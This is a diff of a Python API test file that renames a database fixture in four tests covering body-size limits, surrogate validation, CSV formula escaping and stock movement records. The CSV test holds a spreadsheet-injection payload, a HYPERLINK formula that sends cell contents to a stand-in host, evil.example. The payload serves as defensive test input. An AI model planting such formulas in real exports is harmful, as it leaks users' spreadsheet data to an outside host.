@@ -32,9 +32,9 @@ MIB = 1024 * 1024
 
 
 async def test_a_large_body_is_refused_with_413_before_the_token_check(
-    temporal_client: Client, sqlite_url: str, tmp_path: Path
+    temporal_client: Client, migrated_sqlite_url: str, tmp_path: Path
 ) -> None:
-    with api_alone(temporal_client, sqlite_url, tmp_path) as (url, _):
+    with api_alone(temporal_client, migrated_sqlite_url, tmp_path) as (url, _):
         async with httpx.AsyncClient(base_url=url, timeout=30) as anonymous:
             big = b'{"x": "' + b"a" * (5 * MIB) + b'"}'
             declared = await anonymous.post(
@@ -57,9 +57,9 @@ async def test_a_large_body_is_refused_with_413_before_the_token_check(
 
 
 async def test_lone_surrogates_are_a_422_naming_the_field(
-    temporal_client: Client, sqlite_url: str, tmp_path: Path
+    temporal_client: Client, migrated_sqlite_url: str, tmp_path: Path
 ) -> None:
-    with api_alone(temporal_client, sqlite_url, tmp_path) as (url, _):
+    with api_alone(temporal_client, migrated_sqlite_url, tmp_path) as (url, _):
         headers = {"Authorization": "Bearer dev-admin", "content-type": "application/json"}
         async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as admin:
             body = order_body(f"L-{uuid.uuid4().hex[:8]}", [("CAP-NVY", 1, "199.00")])
@@ -83,9 +83,9 @@ async def test_lone_surrogates_are_a_422_naming_the_field(
 
 
 async def test_report_csv_cells_that_would_run_as_formulas_are_escaped(
-    temporal_client: Client, sqlite_url: str, tmp_path: Path
+    temporal_client: Client, migrated_sqlite_url: str, tmp_path: Path
 ) -> None:
-    with api_alone(temporal_client, sqlite_url, tmp_path) as (url, _):
+    with api_alone(temporal_client, migrated_sqlite_url, tmp_path) as (url, _):
         headers = {"Authorization": "Bearer dev-admin"}
         async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as admin:
             formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -106,9 +106,9 @@ async def test_report_csv_cells_that_would_run_as_formulas_are_escaped(
 
 
 async def test_every_stock_change_is_a_movement_with_who_and_why(
-    temporal_client: Client, sqlite_url: str, tmp_path: Path
+    temporal_client: Client, migrated_sqlite_url: str, tmp_path: Path
 ) -> None:
-    with api_alone(temporal_client, sqlite_url, tmp_path) as (url, _):
+    with api_alone(temporal_client, migrated_sqlite_url, tmp_path) as (url, _):
         headers = {"Authorization": "Bearer dev-warehouse"}
         async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as warehouse:
             counted = await warehouse.put(
@@ -119,7 +119,7 @@ async def test_every_stock_change_is_a_movement_with_who_and_why(
             assert again.status_code == 200, again.text
             same = await warehouse.put("/warehouses/WH-STO/stock/CAP-NVY", json={"on_hand": 7})
             assert same.status_code == 200, same.text
-    db = Database(sqlite_url)
+    db = Database(migrated_sqlite_url)
     try:
         with db.session() as session:
             moves = session.scalars(
